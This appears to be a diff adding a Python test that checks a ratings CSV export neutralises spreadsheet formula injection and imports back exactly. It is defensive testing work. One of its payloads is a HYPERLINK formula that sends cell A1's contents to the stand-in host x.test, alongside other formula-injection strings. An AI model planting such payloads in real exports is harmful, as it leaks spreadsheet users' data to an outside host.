@@ -205,3 +205,39 @@ def test_a_runs_gallery_becomes_samples(tmp_path):
     assert (first["model"], first["source"], first["run"]) == ("starter", "gallery", "poems-run")
     assert (second["model"], second["checkpoint"], second["text"]) == ("poems-run/checkpoint-50", "checkpoint-50", "下独酌")
     assert second["dataset"] == "poems" and second["settings"]["top_p"] == 0.9
+
+
+def test_csv_cells_that_would_run_as_formulas_are_text_and_import_back_exactly(tmp_path):
+    # OWASP's CSV injection rule: a text cell starting with = + - @, a tab or a carriage return gets a leading '.
+    payloads = {"=": "=HYPERLINK(\"http://x.test/?\"&A1)", "+": "+1+2", "-": "-2+3", "@": "@SUM(A1)",
+                "\t": "\t=1+1", "\r": "\r=1+1"}
+    store = open_store(url(tmp_path / "a.sqlite"))
+    # config_name without the payload's leading whitespace: the import strips names (not prompts or texts)
+    ids = store.add_samples([record(prompt=p, text=f"{p} tail", config_name=p.strip(), seed=-3) for p in payloads.values()])
+    for (start, payload), sample_id in zip(payloads.items(), ids):
+        rater = payload if start not in "\t\r" else f"rater {start!r}"  # a rater name is stripped: no tab or CR
+        store.rate(sample_id, rater, {"fluency": 3}, comment=payload)
+    plain = store.add_samples([record(prompt="Once", text=" upon", seed=-3)])[0]
+    store.rate(plain, "ann", {"fluency": 4}, comment="'Tis fine")  # a leading quote of its own gets one more
+    ratings_io.export(store, "csv", tmp_path / "out.csv")
+    before = _content(store)
+    store.close()
+
+    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == len(payloads) + 1
+    for row in rows[:-1]:
+        payload = next(p for p in payloads.values() if row["prompt"] == "'" + p)
+        assert (row["text"], row["comment"]) == ("'" + payload + " tail", "'" + payload)
+        assert row["config_name"] == "'" + payload.strip()
+        assert row["rater"] in ("'" + payload, f"rater {payload[0]!r}")
+    for row in rows:
+        assert row["seed"] == "-3" and row["fluency"] in ("3", "4")  # numbers stay numbers
+        texts = [cell for key, cell in row.items() if key not in ("sample_id", "seed", *CRITERIA)]
+        assert not any(cell.startswith(ratings_io.FORMULA_START) for cell in texts)
+    assert (rows[-1]["prompt"], rows[-1]["text"], rows[-1]["rater"], rows[-1]["model"]) == ("Once", " upon", "ann", record()["model"])
+    assert rows[-1]["comment"] == "''Tis fine"
+
+    with open_store(url(tmp_path / "b.sqlite")) as fresh:
+        ratings_io.import_file(fresh, tmp_path / "out.csv")
+        assert _content(fresh) == before
